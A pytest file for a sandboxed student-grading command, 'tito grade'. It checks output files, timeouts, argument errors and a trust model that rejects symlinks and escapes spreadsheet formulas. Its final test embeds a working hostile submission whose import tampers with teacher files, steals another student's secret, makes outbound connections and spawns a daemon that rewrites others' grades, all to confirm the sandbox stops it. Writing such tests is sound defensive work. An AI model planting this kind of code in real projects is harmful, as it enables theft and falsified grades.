"""``tito grade``: a class judged in one command; a hostile submission changes nothing but its own verdicts.

Every run here grades chapter 01 only (the fastest). The submissions are the reference tinytorch,
a ``tito init`` skeleton, one with a wrong gradient (as in test_mutants.py), and a hostile one
whose import attacks the teacher's files, another submission and the network.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from milestones import grade, registry, skeleton
from milestones.tools.bookbuild import break_file

PERCEPTRON = registry.milestone("01")
KEYS = [c.key for part in PERCEPTRON.parts for c in part.criteria]
NO_BWRAP = ("bwrap is not installed, so tito grade cannot sandbox a student's run: install bubblewrap "
            "(as root: apt-get install -y bubblewrap; `make test` installs it when run as root)")


def tito_grade(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """``tito grade ARGS`` in a subprocess, as a teacher runs it: no TTY, no input."""
    env = {k: v for k, v in os.environ.items() if k not in ("TINYTORCH_SRC", "STRICT", "TINYTORCH_RESULTS_DIR")}
    return subprocess.run([sys.executable, "-m", "milestones.cli", "grade", *args], cwd=cwd, env=env,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=600)


def reference(folder: Path) -> Path:
    shutil.copytree(registry.BOOK_ROOT / "tinytorch", folder / "tinytorch",
                    ignore=shutil.ignore_patterns("__pycache__"))
    return folder


def skeleton_of(folder: Path) -> Path:
    skeleton.write_skeleton(folder)
    return folder


def table(out: Path) -> dict[str, dict[str, dict]]:
    """grades.csv as {student: {criterion: row}}."""
    found: dict[str, dict[str, dict]] = {}
    with open(out / "grades.csv", newline="") as handle:
        for row in csv.DictReader(handle):
            found.setdefault(row["student"], {})[row["criterion"]] = row
    return found


def tree_digest(folder: Path) -> str:
    """A hash of every path and file under ``folder``: any write, new file or deletion changes it."""
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


# ---------------------------------------------------------------- a class of three

@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """Reference, skeleton and wrong gradient, graded on chapter 01 with their book pages kept."""
    root = tmp_path_factory.mktemp("class")
    subs = root / "submissions"
    wrong = reference(subs / "wrong-gradient")
    break_file(wrong / "tinytorch/core/layers.py", "gb = _column_sums(g2) if need_b else None",
               "gb = g2.mean(axis=0) if need_b else None")
    folders = [reference(subs / "reference"), skeleton_of(subs / "skeleton"), wrong]
    done = tito_grade(*map(str, folders), "--milestones", "01", "--keep-books", cwd=root)
    return root / "grades", done


def test_grade_writes_one_row_per_student_and_criterion(graded_class):
    out, done = graded_class
    assert done.returncode == 0, done.stdout + done.stderr
    with open(out / "grades.csv", newline="") as handle:
        lines = list(csv.reader(handle))
    assert tuple(lines[0]) == grade.COLUMNS
    found = table(out)
    assert sorted(found) == ["reference", "skeleton", "wrong-gradient"]
    for student, rows in found.items():
        assert list(rows) == KEYS, student
        for key, row in rows.items():
            part, criterion = PERCEPTRON.criterion(key)
            assert (row["milestone"], row["part"], row["requirement"]) == ("01", str(part.number), criterion.requirement)


def test_grade_reference_meets_everything_skeleton_nothing_wrong_gradient_misses_backprop(graded_class):
    out, done = graded_class
    found = table(out)
    assert {r["status"] for r in found["reference"].values()} == {"met"}, found["reference"]
    assert float(found["reference"]["train_accuracy"]["value"]) >= 0.95
    skeleton_states = {r["status"] for r in found["skeleton"].values()}
    assert skeleton_states and skeleton_states <= {"not implemented", "locked"}, found["skeleton"]
    wrong = found["wrong-gradient"]
    assert wrong["backprop_error"]["status"] == "missed", wrong
    assert float(wrong["backprop_error"]["value"]) > 1e-3
    assert all(wrong[key]["status"] == "met" for key in KEYS[:KEYS.index("backprop_error")])


def test_grade_prints_a_progress_line_per_student_and_writes_json_and_feedback(graded_class):
    out, done = graded_class
    lines = done.stdout.splitlines()
    assert "sandboxed by bwrap" in lines[0] or "not sandboxed" in done.stderr
    progress = [line for line in lines if line.startswith("[")]
    assert len(progress) == 3
    assert "reference" in progress[0] and "6 met, 0 missed, 0 error, 0 locked" in progress[0]
    assert "wrong-gradient" in progress[2] and "1 missed" in progress[2] and " s)" in progress[2]
    report = json.loads((out / "grades.json").read_text())
    assert report["milestones"] == ["01"]
    students = {s["student"]: s for s in report["students"]}
    assert students["reference"]["totals"]["met"] == len(KEYS) and students["reference"]["first_error"] is None
    assert students["skeleton"]["totals"]["met"] == 0
    assert [c["criterion"] for c in students["skeleton"]["criteria"]] == KEYS
    assert all(s["seconds"] > 0 and not s["timed_out"] for s in students.values())
    page = (out / "feedback" / "wrong-gradient.html").read_text()
    assert "backprop_error" in page and "missed" in page and "s-missed" in page
    assert '<a href="../books/wrong-gradient/index.html">' in page
    assert (out / "books" / "reference" / PERCEPTRON.chapter.replace(".md", ".html")).exists()
    assert 'href="feedback/skeleton.html"' in (out / "index.html").read_text()


# ---------------------------------------------------------------- an error names its file and line

def test_grade_feedback_names_the_first_error_with_file_and_line(tmp_path):
    broken = reference(tmp_path / "broken")
    break_file(broken / "tinytorch/core/layers.py", "linear(x, self.weight, self.bias)", "linear(x, self.weight, undefined_bias)")
    done = tito_grade(str(broken), "--milestones", "01", "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    student = json.loads((tmp_path / "out" / "grades.json").read_text())["students"][0]
    first = student["first_error"]
    assert first is not None and "undefined_bias" in first["detail"], student
    assert first["file"] == "tinytorch/core/layers.py" and first["line"] > 0
    page = (tmp_path / "out" / "feedback" / "broken.html").read_text()
    assert "First error" in page and f"tinytorch/core/layers.py line {first['line']}" in page


# ---------------------------------------------------------------- a run past its time limit

def processes_with(variable: str, value: str) -> list[int]:
    """The processes on this machine whose environment has ``variable=value``."""
    import psutil

    found = []
    for process in psutil.process_iter():
        try:
            if process.environ().get(variable) == value:
                found.append(process.pid)
        except (psutil.Error, OSError):
            continue
    return found


def test_grade_kills_a_run_past_its_time_limit_and_says_so(tmp_path):
    sleeper = skeleton_of(tmp_path / "sleeper")
    init = sleeper / "tinytorch" / "__init__.py"
    init.write_text("import time\ntime.sleep(3600)\n" + init.read_text())
    done = tito_grade(str(sleeper), "--milestones", "01", "--timeout", "6", "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "timed out after 6 s" in done.stdout
    rows = table(tmp_path / "out")["sleeper"]
    assert {(r["status"], r["detail"]) for r in rows.values()} == {("error", "timed out after 6 s")}
    left = processes_with("TINYTORCH_SRC", str(sleeper.resolve()))
    assert left == [], f"processes of the timed-out run are still alive: {left}"


# ---------------------------------------------------------------- bad arguments

@pytest.mark.parametrize("args, said", [
    ((), "give at least one submission"),
    (("{tmp}/empty",), "has no tinytorch/__init__.py"),
    (("{tmp}/ok", "--milestones", "01,nosuch"), "unknown milestone 'nosuch'"),
    (("{tmp}/ok", "--timeout", "0"), "--timeout must be a positive number"),
    (("{tmp}/ok", "--timeout", "-5"), "--timeout must be a positive number"),
    (("{tmp}/ok", "--out", "{tmp}/ok/grades"), "is inside submission"),
    (("{tmp}/ok", "--out", str(registry.BOOK_ROOT.parent)), "which every student's run reads"),
], ids=["none", "no-tinytorch", "unknown-milestone", "zero-timeout", "negative-timeout", "out-in-submission",
        "out-holds-the-book"])
def test_grade_bad_arguments_give_one_tito_line_and_exit_2(tmp_path, args, said):
    (tmp_path / "empty").mkdir()
    (tmp_path / "ok" / "tinytorch").mkdir(parents=True)
    (tmp_path / "ok" / "tinytorch" / "__init__.py").write_text("")
    done = tito_grade(*(a.format(tmp=tmp_path) for a in args), cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith("tito grade: ") and said in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
    assert not (tmp_path / "grades").exists()


# ---------------------------------------------------------------- pieces of the trust model

def test_results_that_are_links_are_not_read(tmp_path):
    """A student's build could leave a link where the judge's records go, pointing at a teacher's file."""
    secret = tmp_path / "teacher-secret.json"
    secret.write_text(json.dumps({"x": {"milestone": "01", "status": "met", "detail": "the teacher's secret"}}))
    results = tmp_path / "book" / "_build" / "results" / "abc"
    results.mkdir(parents=True)
    (results / "01.json").symlink_to(secret)
    with pytest.raises(grade.Unreadable, match="not a plain file"):
        grade.read_records(tmp_path / "book")


def test_csv_cells_a_student_writes_cannot_be_spreadsheet_formulas():
    assert grade._cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert grade._cell("NameError: x (tinytorch/core/layers.py line 3)").startswith("NameError")


def test_sandbox_mounts_apply_shallow_folders_first_so_deeper_ones_win():
    flags = grade.mounts(hidden=[Path("/a"), Path("/a/b/c"), Path("/x")], readable=[Path("/a/b"), Path("/x")],
                         writable=[Path("/a/b/c/d")])
    assert flags == ["--tmpfs", "/a", "--ro-bind", "/x", "/x", "--ro-bind", "/a/b", "/a/b",
                     "--tmpfs", "/a/b/c", "--bind", "/a/b/c/d", "/a/b/c/d",
                     "--remount-ro", "/a", "--remount-ro", "/a/b/c"]


# ---------------------------------------------------------------- a hostile submission

ATTACK = '''\
# A hostile student's tinytorch: on import, attack the teacher and another student; never fail the import.
def _attack():
    import glob, json, os, socket, subprocess, sys, time
    out, victim, teacher, port = {out!r}, {victim!r}, {teacher!r}, {port}
    for path in (out + "/grades.csv", out + "/teacher-notes.txt", teacher, victim + "/tinytorch/core/tensor.py"):
        try:
            with open(path, "a") as handle:
                handle.write("\\nHACKED\\n")
        except OSError:
            pass
    for path in (out + "/hacked.txt", victim + "/tinytorch/hacked.py"):
        try:
            with open(path, "w") as handle:
                handle.write("HACKED")
        except OSError:
            pass
    try:
        secret = open(victim + "/secret.txt").read()
    except OSError:
        secret = None
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            socket.create_connection((host, port if host == "127.0.0.1" else 80), timeout=2).sendall(b"HACKED")
        except OSError:
            pass
    # A process that outlives this build and rewrites the verdicts of whoever is graded next.
    results = os.environ.get("TINYTORCH_RESULTS_DIR", "")
    if results and not os.environ.get("HOSTILE_DAEMON"):
        try:
            os.close(os.open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "hostile-daemon"), os.O_CREAT | os.O_EXCL))
            subprocess.Popen([sys.executable, "-c", {daemon!r}, results, out], start_new_session=True,
                             env=dict(os.environ, HOSTILE_DAEMON="1"), stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            pass
    if secret:
        print("stolen:", secret)
        raise RuntimeError("stolen: " + secret)
_attack()
del _attack
'''

DAEMON = '''\
import glob, json, os, sys, time
results, out = sys.argv[1], sys.argv[2]
root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(results)))))
mine = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(results))))
end = time.time() + 60
while time.time() < end:
    for path in glob.glob(os.path.join(root, "*", "book", "_build", "results", "*", "*.json")):
        if path.startswith(mine + os.sep):
            continue
        try:
            records = json.load(open(path))
            for entry in records.values():
                entry["status"], entry["detail"] = "met", "HACKED"
            json.dump(records, open(path, "w"))
        except (OSError, ValueError, AttributeError):
            pass
    try:
        with open(os.path.join(out, "teacher-notes.txt"), "a") as handle:
            handle.write("HACKED by the daemon\\n")
    except OSError:
        pass
    time.sleep(0.1)
'''


@pytest.fixture
def listener():
    """A TCP server on this machine's loopback that records every connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                seen.append(server.accept()[0].recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


def test_hostile_submission_changes_nothing_but_its_own_verdicts(tmp_path, listener):
    assert shutil.which("bwrap"), NO_BWRAP
    port, connections = listener
    subs, out, teacher = tmp_path / "submissions", tmp_path / "grades", tmp_path / "teacher.txt"
    victim = skeleton_of(subs / "victim")
    secret = f"secret-{os.getpid()}-{id(victim):x}"
    (victim / "secret.txt").write_text(secret)
    hostile = skeleton_of(subs / "hostile")
    init = hostile / "tinytorch" / "__init__.py"
    init.write_text(ATTACK.format(out=str(out), victim=str(victim), teacher=str(teacher), port=port,
                                  daemon=DAEMON) + init.read_text())
    out.mkdir()
    (out / "teacher-notes.txt").write_text("the teacher's own notes\n")
    teacher.write_text("the teacher's file\n")
    before = tree_digest(victim)

    done = tito_grade(str(hostile), str(victim), "--milestones", "01", cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "sandboxed by bwrap" in done.stdout.splitlines()[0], done.stdout + done.stderr

    assert tree_digest(victim) == before, "the hostile submission changed another submission"
    assert (out / "teacher-notes.txt").read_text() == "the teacher's own notes\n"
    assert teacher.read_text() == "the teacher's file\n"
    assert not (out / "hacked.txt").exists()
    assert connections == [], "the hostile submission reached a server on the teacher's machine"
    assert processes_with("HOSTILE_DAEMON", "1") == [], "a process of the hostile submission outlived its run"
    found = table(out)
    assert {r["status"] for r in found["victim"].values()} <= {"not implemented", "locked"}, found["victim"]
    assert {r["status"] for r in found["hostile"].values()} <= {"not implemented", "locked"}, found["hostile"]
    said = done.stdout + done.stderr + "".join(p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
    assert secret not in said, "another student's file was read"
    assert "HACKED" not in said
